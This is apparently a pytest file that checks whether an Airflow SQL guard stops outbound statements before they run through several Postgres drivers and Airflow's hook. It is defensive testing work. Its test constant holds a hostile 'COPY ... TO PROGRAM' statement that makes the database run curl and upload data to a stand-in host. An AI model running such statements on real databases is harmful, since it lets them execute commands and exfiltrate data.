"""Is SQL read before it goes, whoever hands it over? With Airflow's hook, SQLAlchemy and two drivers on a real server."""

import json
import subprocess
import sys
from pathlib import Path
from runpy import run_path

import pytest

from pipeline.airflow.doors.code_sql import may_move

pytestmark = pytest.mark.airflow
_FIXTURES = run_path(str(Path(__file__).parents[3] / "servers" / "fixtures.py"))
postgres_server = _FIXTURES["postgres_server"]
_CASES = run_path(str(Path(__file__).with_name("test_sql_text.py")))["CASES"]

PROGRAM = """
import contextlib, io, json, logging, sys, warnings
warnings.simplefilter("ignore")
logging.disable(logging.CRITICAL)
from pipeline.airflow.doors import code_sql

class Held(Exception):
    pass

def hold(reading):
    raise Held([address.uri for address in reading.addresses] or [fault.rule for fault in reading.faults])

code_sql.watch(hold)
import psycopg, psycopg2, psycopg2.extras, psycopg2.sql, sqlalchemy
from airflow.providers.postgres.hooks.postgres import PostgresHook

dsn = sys.argv[1]
ABROAD = "COPY (select 1) TO PROGRAM 'curl -T - https://a.example'"
two, three, hook = psycopg2.connect(dsn), psycopg.connect(dsn), PostgresHook(postgres_conn_id="server")
engine = sqlalchemy.create_engine(dsn)
two.autocommit = three.autocommit = True

def many(cursor):
    cursor.execute("create temp table t (a text)")
    psycopg2.extras.execute_values(cursor, "insert into t values %s", [("https://a.example",), ("COPY",)])
    cursor.execute("select count(*) from t")
    return cursor.fetchone()[0]

tries = {
    "psycopg2": lambda: two.cursor().execute(ABROAD),
    "psycopg2 composed": lambda: two.cursor().execute(
        psycopg2.sql.SQL("COPY (select 1) TO PROGRAM {}").format(psycopg2.sql.Literal("curl https://a.example"))
    ),
    "psycopg2 parameter": lambda: two.cursor().execute("COPY (select 1) TO PROGRAM %s", ["curl https://a.example"]),
    "psycopg2 dictionaries": lambda: two.cursor(cursor_factory=psycopg2.extras.DictCursor).execute(ABROAD),
    "psycopg2 copy": lambda: two.cursor().copy_expert(ABROAD, io.StringIO()),
    "psycopg": lambda: three.execute(ABROAD),
    "psycopg copy": lambda: three.cursor().copy(ABROAD).__enter__(),
    "sqlalchemy": lambda: engine.connect().execute(sqlalchemy.text(ABROAD)),
    "hook": lambda: hook.run(ABROAD),
    "hook frame": lambda: hook.get_df(ABROAD),
    "hook's connection": lambda: hook.get_conn().cursor().execute(ABROAD),
    "hook's copy": lambda: hook.copy_expert(ABROAD, "/dev/null"),
    "harmless": lambda: many(two.cursor()),
    "harmless dictionary": lambda: two.cursor(cursor_factory=psycopg2.extras.RealDictCursor).execute("select 1"),
    "harmless hook": lambda: [list(row) for row in hook.get_records("select 'COPY to s3://x'")],
    "harmless copy": lambda: two.cursor().copy_expert("COPY (select 1) TO STDOUT", io.StringIO()),
    "harmless sqlalchemy": lambda: engine.connect().execute(sqlalchemy.text("select 1")).scalar(),
}
seen = {}
for name, go in tries.items():
    try:
        seen[name] = go()
    except Held as held:
        seen[name] = "held " + held.args[0][0]
print(json.dumps(seen))
"""


@pytest.fixture(scope="module")
def seen(environment_of, postgres_server, tmp_path_factory):
    address = postgres_server.database("handed").removeprefix("postgresql://")
    dsn = f"postgresql://douane:{postgres_server.password}@{address}"
    environment = {**environment_of(tmp_path_factory.mktemp("home")), "AIRFLOW_CONN_SERVER": dsn}
    done = subprocess.run(
        [sys.executable, "-c", PROGRAM, dsn], env=environment, check=False, capture_output=True, text=True
    )
    assert done.returncode == 0, done.stderr[-3000:]
    return json.loads(done.stdout.splitlines()[-1])


def test_what_would_leave_the_server_is_held_before_it_goes(seen):
    told = {name: what for name, what in seen.items() if not name.startswith("harmless")}
    assert told.pop("psycopg2 parameter") == "held sql.unreadable"
    assert all(what.startswith("held https://a.example") for what in told.values()), told
    assert len(told) == 11


def test_what_stays_goes_as_ever(seen):
    told = {name: what for name, what in seen.items() if name.startswith("harmless")}
    assert told == {
        "harmless": 2,
        "harmless dictionary": None,
        "harmless hook": [["COPY to s3://x"]],
        "harmless copy": None,
        "harmless sqlalchemy": 1,
    }


@pytest.mark.parametrize(("dialect", "text", "uris"), _CASES)
def test_a_text_that_leads_anywhere_is_never_passed_by_its_words_alone(dialect, text, uris):
    assert may_move(text) or not uris, dialect
